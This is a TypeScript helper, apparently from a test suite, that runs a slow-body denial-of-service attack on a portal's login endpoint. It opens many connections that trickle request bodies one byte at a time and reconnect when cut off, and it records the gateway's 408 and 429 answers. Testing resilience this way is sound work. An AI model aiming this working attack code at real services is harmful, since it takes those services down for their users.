import { connect, type Socket } from 'node:net';

export interface SlowClientsOptions {
  /** The portal's address, http://host:port. */
  baseUrl: string;
  clients: number;
  /** The address the clients connect from (any 127.x.y.z on loopback), so they count as one. */
  localAddress?: string;
  /** Sent every `intervalMs`, one byte at a time, of a 200-byte JSON body. */
  intervalMs?: number;
}

export interface SlowClients {
  /** Answers the clients got (408 when the gateway tired of them, 429 when refused). */
  readonly answers: Map<number, number>;
  stop(): void;
}

/**
 * The "slow body" attack: many connections each start `POST /api/users/login` announcing a
 * 200-byte body and send it one byte every `intervalMs`, holding whatever they hold as long as
 * they can. A client that is answered or cut off opens a new connection, so the pressure stays.
 */
export function startSlowClients(options: SlowClientsOptions): SlowClients {
  const url = new URL(options.baseUrl);
  const answers = new Map<number, number>();
  const sockets = new Set<Socket>();
  let stopped = false;

  const open = () => {
    if (stopped) return;
    const socket = connect({
      host: url.hostname,
      port: Number(url.port),
      localAddress: options.localAddress,
    });
    sockets.add(socket);
    let timer: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      socket.write(
        'POST /api/users/login HTTP/1.1\r\nHost: portal\r\nContent-Type: application/json\r\n' +
          'Content-Length: 200\r\n\r\n{',
      );
      timer = setInterval(() => socket.write(' '), options.intervalMs ?? 10_000);
    });
    socket.once('data', (data: Buffer) => {
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1] ?? 0);
      answers.set(status, (answers.get(status) ?? 0) + 1);
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      sockets.delete(socket);
      // Back again after a moment, as an attacker would.
      if (!stopped) setTimeout(open, 100);
    });
  };
  for (let client = 0; client < options.clients; client++) open();

  return {
    answers,
    stop() {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
